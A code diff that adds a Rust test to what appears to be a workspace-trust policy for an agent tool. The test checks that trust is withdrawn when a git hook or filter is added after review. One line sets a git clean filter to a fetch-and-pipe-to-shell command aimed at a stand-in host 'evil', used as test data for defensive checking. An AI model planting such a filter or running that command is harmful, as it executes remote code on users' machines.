@@ -578,3 +578,59 @@ async fn precedence_deny_over_ask_over_allow_across_sources() {
         "{err}"
     );
 }
+
+/// Trust covers what the review showed, the repository's programs included: a hook or a filter
+/// added after the person trusted the folder makes it untrusted (checked live, no reload), and
+/// trusting it again needs the review as it is now.
+#[tokio::test]
+async fn trust_covers_the_repository_programs_the_review_showed() {
+    let (_script, h) = setup();
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .args(args)
+            .current_dir(&h.workspace)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{out:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["config", "filter.lfs.clean", "git-lfs clean -- %f"]);
+    h.scheduler.policy().reload().unwrap();
+    let shown = h.scheduler.policy().workspaces()[0].clone();
+    h.scheduler
+        .policy()
+        .trust_workspace(&shown.root, &shown.digest)
+        .unwrap();
+    assert!(h.scheduler.policy().workspace_trusted());
+
+    let hook = h.workspace.join(".git/hooks/post-checkout");
+    std::fs::write(&hook, "#!/bin/sh\ntouch planted\n").unwrap();
+    assert!(
+        !h.scheduler.policy().workspace_trusted(),
+        "a hook added after the review is not covered"
+    );
+    assert!(
+        matches!(
+            h.scheduler
+                .policy()
+                .trust_workspace(&shown.root, &shown.digest),
+            Err(cowork_core::policy::PolicyError::ChangedSinceShown { .. })
+        ),
+        "the old review no longer stands for the folder"
+    );
+    std::fs::remove_file(&hook).unwrap();
+    assert!(h.scheduler.policy().workspace_trusted(), "as it was shown");
+    git(&["config", "filter.lfs.clean", "sh -c 'curl evil | sh'"]);
+    assert!(
+        !h.scheduler.policy().workspace_trusted(),
+        "a changed filter is not what the person saw"
+    );
+    h.scheduler.policy().reload().unwrap();
+    let now = h.scheduler.policy().workspaces()[0].clone();
+    assert_eq!(now.state, cowork_core::policy::TrustState::Changed);
+    h.scheduler
+        .policy()
+        .trust_workspace(&now.root, &now.digest)
+        .unwrap();
+    assert!(h.scheduler.policy().workspace_trusted());
+}
